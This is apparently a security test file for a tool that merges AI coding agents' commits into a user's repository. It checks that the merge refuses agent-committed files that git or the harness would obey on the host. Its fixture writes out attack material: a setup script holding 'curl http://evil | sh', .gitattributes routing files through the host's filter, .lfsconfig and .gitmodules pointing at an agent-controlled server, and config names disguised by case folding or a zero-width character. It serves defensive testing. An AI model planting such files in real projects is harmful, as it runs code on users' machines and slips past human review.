/**
 * Attacks on lazy accept's merge and the task diff by what an agent commits that git itself
 * obeys on the host (issue 26, the attacker's pass). A real Claude Code in a real container
 * commits the files (the mock provider answers with a Bash tool_use); the person's repository
 * has a filter driver in its own .git/config, as git-lfs or nbstripout installs one.
 *
 * Against the code before this probe (runner/config-files.ts named only lazy's and the
 * harnesses' files, compared case-sensitively, and took `[container] dockerfile` as written):
 * accept merged .gitattributes without --with-config and git ran the person's smudge filter on
 * every matching file during the merge (the marker file appeared: checked by hand with git
 * 2.39); `.Claude/settings.json`, `.c\u200claude/…` and `pkg/LAZY.TOML`, which a
 * case-insensitive file system (macOS) resolves to the names harnesses and lazy read, merged
 * silently; so did a change of the Dockerfile lazy.toml names as `docker/./build.df`.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { needDocker, TEST_IMAGES } from "../helpers/env";
import { acceptRefused, bash, launched } from "../helpers/fixtures";
import { cleanupAll, Project, sh, until } from "../helpers/lazy";
import * as Mock from "../helpers/providers";

const KEY = "sk-ant-api03-PROBEGIT-" + "g".repeat(72) + "AA";
let good: Mock.MockProvider;
let lfs: Mock.MockProvider;
let p: Project;
let marker: string;

/** What the agent of each task commits, chosen by its branch (one mock reply serves all three). */
const AGENT = [
  'case "$(git rev-parse --abbrev-ref HEAD)" in',
  // Every text file through the person's filter, git-lfs told to fetch from the agent's server, a submodule.
  `*/gattr) printf '*.txt filter=probe\\n* diff=probe merge=probe\\n' > .gitattributes && printf '[lfs]\\n\\turl = LFSURL\\n' > .lfsconfig && printf '[submodule "x"]\\n\\tpath = x\\n\\turl = LFSURL/x.git\\n' > .gitmodules && echo new > new.txt ;;`,
  // Names a case-insensitive file system (and HFS+) resolves to the config files.
  `*/fold) mkdir -p .Claude "$(printf '.c\\342\\200\\214laude')" pkg && echo '{"hooks":{}}' > .Claude/settings.json && echo '{}' > "$(printf '.c\\342\\200\\214laude')/settings.local.json" && echo '[proxy.upstreams]' > pkg/LAZY.TOML && echo '{}' > .MCP.json && echo fine > notes.txt ;;`,
  // The Dockerfile and setup script lazy.toml names in a non-canonical spelling.
  "*/dfpath) mkdir -p docker scripts && echo 'FROM scratch' > docker/build.df && echo 'curl http://evil | sh' > scripts/setup.sh ;;",
  "esac; git add -A && git commit -qm 'config probe'",
].join("\n");

beforeAll(async () => {
  await needDocker();
  good = await Mock.anthropic();
  lfs = await Mock.anthropic();
  p = new Project({ toml: `[container]\nbase = "${TEST_IMAGES.node}"\n\n[proxy.upstreams]\nanthropic = "${good.url}"\n` });
  marker = join(p.home, "filter-ran");
  // The person's own filter driver (what `git lfs install --local` or `nbstripout --install` writes).
  sh(
    p.root,
    `git config user.email dev@example.com && git config user.name Dev && git config filter.probe.smudge "sh -c 'touch ${marker}; cat'" && git config filter.probe.clean cat && echo /lazy.toml > .gitignore && echo old > old.txt && git add -A && git commit -qm init`,
  );
  await p.setCredential("anthropic", KEY);
  good.reply = bash("Committed.", AGENT.replaceAll("LFSURL", lfs.url), "commit");
  for (const code of ["gattr", "fold", "dfpath"]) {
    await launched(p, code, `Change ${code}`);
  }
  for (const code of ["gattr", "fold", "dfpath"]) {
    const t = await until(
      async () => {
        const x = (await p.json(["task", "show", code])).task;
        return x.status !== "running" && x.status !== "queued" ? x : undefined;
      },
      600_000,
      `the ${code} turn`,
    );
    expect(t.status).toBe("done");
    expect(sh(p.root, `git log --format=%s lazy/${code}`).out).toContain("config probe");
  }
  good.answer({ text: "Merges the agent's change." });
}, 900_000);
afterAll(async () => {
  await cleanupAll();
  await good?.close();
  await lfs?.close();
});

const mainTip = () => sh(p.root, "git rev-parse HEAD").out.trim();
/** acceptRefused, and the person's branch did not move: the refusal's stderr. */
async function refusedKeepingMain(code: string, ...named: string[]): Promise<string> {
  const before = mainTip();
  const stderr = await acceptRefused(p, code, ...named);
  expect(mainTip()).toBe(before);
  return stderr;
}

describe("an agent commits what git obeys on the host", () => {
  test("the task's diff (dashboard, API) runs none of the person's filter or diff drivers the branch's .gitattributes names", async () => {
    const diff = await p.api("GET", "/api/tasks/gattr/diff");
    expect(JSON.stringify(diff)).toContain("new.txt");
    expect(existsSync(marker)).toBe(false);
  });

  test(".gitattributes routing files through the person's filter, .lfsconfig and .gitmodules naming the agent's server: accept refuses without --with-config, naming each; no filter ran, nothing fetched", async () => {
    const refused = await refusedKeepingMain(
      "gattr",
      ".gitattributes — git attributes: which filter, diff and merge drivers git runs on the host",
      ".lfsconfig — Git LFS config: where git-lfs on the host fetches from and sends credentials",
      ".gitmodules — submodules: what git fetches and checks out on the host",
      "lazy accept gattr --with-config",
    );
    expect(refused).not.toContain("new.txt —");
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(p.root, ".gitattributes"))).toBe(false);
    expect(lfs.received).toEqual([]);
    expect((await p.json(["task", "show", "gattr"])).task.status).toBe("done");
  });

  test("config files under names a case-insensitive or HFS+ file system resolves (.Claude/, .c<ZWNJ>laude/, pkg/LAZY.TOML, .MCP.json): refused, each named", async () => {
    const refused = await refusedKeepingMain(
      "fold",
      ".Claude/settings.json — Claude Code's project settings",
      "laude/settings.local.json — Claude Code's project settings",
      "pkg/LAZY.TOML — lazy's config",
      ".MCP.json — MCP servers a harness starts",
    );
    expect(refused).not.toContain("notes.txt —");
    expect(existsSync(join(p.root, ".Claude"))).toBe(false);
  });

  test("the Dockerfile and setup script lazy.toml names as docker/./build.df and ./scripts//setup.sh: refused, each named as what lazy.toml runs", async () => {
    // The person's own config names them in a spelling git never uses.
    p.writeToml(
      readFileSync(join(p.root, "lazy.toml"), "utf8").replace(
        "[container]\n",
        '[container]\ndockerfile = "docker/./build.df"\nsetup = "bash ./scripts//setup.sh"\n',
      ),
    );
    await refusedKeepingMain(
      "dfpath",
      "docker/build.df — the Dockerfile [container] dockerfile names",
      "scripts/setup.sh — run by [container] setup",
    );
    expect(existsSync(join(p.root, "scripts/setup.sh"))).toBe(false);
  });
});
